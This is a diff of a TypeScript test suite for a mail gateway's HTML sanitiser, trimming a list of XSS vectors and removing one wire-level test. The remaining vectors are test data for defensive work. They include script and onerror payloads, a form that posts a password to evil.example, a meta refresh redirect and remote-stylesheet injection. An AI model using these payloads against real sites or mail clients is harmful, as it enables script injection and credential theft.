@@ -7,12 +7,11 @@ import { createTtlStore } from '#gateway/ttl-store.ts';
 import { limits } from '#mail/contract.ts';
 import { registrationReport } from '#mail/registration-report.ts';
 
-import { answers, filled, now, provider } from '../../mail/family.ts';
+import { filled, now, provider, report } from '../../mail/family.ts';
 import { openGateway } from '../gateway.ts';
 
 const treeOf = (html: string) =>
   new DOMParser().parseFromString(html, 'text/html').documentElement.outerHTML.replace(/\s+/g, ' ');
-const report = registrationReport(provider, answers, now);
 
 test('our own letter keeps every word and every colour', async () => {
   const gateway = await openGateway();
@@ -25,39 +24,25 @@ test('our own letter keeps every word and every colour', async () => {
 /** One vector of each kind in the well-known collections (OWASP, PortSwigger, html5sec), and tricks that need no script. */
 const vectors = String.raw`
 <script>alert(1)</script>
-<scr<script>ipt>alert(1)</scr</script>ipt>
 <svg/onload=alert(1)>
 <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
-<img src=x onerror=alert(1)>
 <img src="https://evil.example/pixel.gif">
-<IMG """><SCRIPT>alert(1)</SCRIPT>">
-<body onload=alert(1)>
 <iframe srcdoc="<script>alert(1)</script>"></iframe>
 <form action="https://evil.example"><input name=password><button formaction="https://evil.example">Log in</button></form>
 <details open ontoggle=alert(1)><summary>x</summary></details>
-<p onclick=alert&#40;1&#41;>x</p>
 <div style="background:url(https://evil.example/x)">x</div>
 <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Log in again</div>
-<div style="display:none">hidden words</div>
 <p style="margin:0 0 16px ">x</p>
 <style>*{display:none}</style>
 <link rel=stylesheet href="https://evil.example/x.css">
 <meta http-equiv=refresh content="0;url=https://evil.example">
 <base href="https://evil.example/">
-<a href="java&#9;script:alert(1)">go</a>
 <a href="data:text/html,<script>alert(1)</script>">go</a>
-<a href="https://evil.example">https://www.alberta.ca/child-care</a>
 <a href="mailto:evil@evil.example?subject=x">Reply to the parent</a>
 <noscript><p title="</noscript><img src=x onerror=alert(1)>">
-<xmp><p title="</xmp><svg/onload=alert(1)>">
 <plaintext><script>alert(1)
-<title><img src=x onerror=alert(1)></title>
 <!--><script>alert(1)</script>-->
-<![CDATA[<script>alert(1)</script>]]>
-<?xml version="1.0"?><script>alert(1)</script>
-<p/onclick=alert(1)/style="color:red">x</p>
 <<p onclick=alert(1)//<p>
-</p style="x" onclick=alert(1)>
 `
   .trim()
   .split('\n');
@@ -107,30 +92,6 @@ test('markup typed into every field stays words in our own letter', async () => 
     const { html } = await judged(letter)({});
     expect(elementsOf(String(html)), vector).toEqual(expected);
   }
-});
-
-test('over the wire too, foreign HTML is left out and typed markup stays words', async () => {
-  const gateway = await openGateway();
-  const html = report.html!.replace('</h1>', '</h1><script>alert(1)</script>');
-  const typed = registrationReport(
-    provider,
-    filled(() => '<img src=x onerror=alert(1)>'),
-    now,
-  );
-  for (const letter of [{ ...report, html }, typed]) expect((await gateway.send(letter)).statusCode).toBe(200);
-  const mails = await gateway.mails();
-  const foreign = mails.find(({ subject }) => subject?.startsWith(foreignSubjectPrefix));
-  expect([foreign?.html, foreign?.attachments]).toEqual([false, []]);
-  const own = mails.find((mail) => mail !== foreign);
-  expect(elementsOf(String(own?.html))).toEqual(
-    elementsOf(
-      registrationReport(
-        provider,
-        filled(() => 'x'),
-        now,
-      ).html!,
-    ),
-  );
 });
 
 test('mail that was not composed by the forms of the site keeps its words, says so first in its subject, and has nobody to reply to', async () => {
